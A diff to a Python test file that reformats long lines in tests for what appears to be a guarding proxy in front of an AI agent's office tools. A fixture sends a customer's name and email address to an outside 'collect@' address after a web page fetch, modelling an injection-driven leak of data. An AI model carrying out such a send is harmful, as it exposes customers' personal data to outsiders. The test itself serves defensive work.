@@ -14,12 +14,16 @@ ERAS = pytest.mark.parametrize("mode", ["legacy", "2026-07-28", "auto"])
 OUT = {"to": "collect@outside.example", "body": "CUST-1207 | Ana Novak | ana.novak@mail.example"}
 
 
-def play(folder: Path, mode: str, calls: list[tuple[str, dict[str, Any]]], answer: Any = None, *options: str) -> tuple[list[Any], list[str]]:
+def play(
+    folder: Path, mode: str, calls: list[tuple[str, dict[str, Any]]], answer: Any = None, *options: str
+) -> tuple[list[Any], list[str]]:
     """The results of calls made one after the other, and what the person was asked."""
     asked: list[str] = []
 
     async def run() -> list[Any]:
-        async with client(proxy(*options, "--", *OFFICE), folder, mode, answer, {"OFFICE_SENT": str(folder / "sent")}, asked=asked) as session:
+        async with client(
+            proxy(*options, "--", *OFFICE), folder, mode, answer, {"OFFICE_SENT": str(folder / "sent")}, asked=asked
+        ) as session:
             return [await session.call_tool(name, arguments) for name, arguments in calls]
 
     return anyio.run(run), asked
@@ -73,7 +77,12 @@ def test_a_secret_in_a_result_does_not_reach_the_client(tmp_path: Path, mode: st
 
 @ERAS
 def test_observe_mode_changes_nothing(tmp_path: Path, mode: str) -> None:
-    calls = [("fetch_page", {"url": "https://news.example/offer"}), ("read_customer_table", {}), ("send_email", OUT), ("read_settings", {"path": "a"})]
+    calls = [
+        ("fetch_page", {"url": "https://news.example/offer"}),
+        ("read_customer_table", {}),
+        ("send_email", OUT),
+        ("read_settings", {"path": "a"}),
+    ]
     results, asked = play(tmp_path, mode, calls, None, "--mode", "observe")
     assert [result.is_error for result in results] == [False, False, False, False]
     assert "sk-" in text_of(results[3])
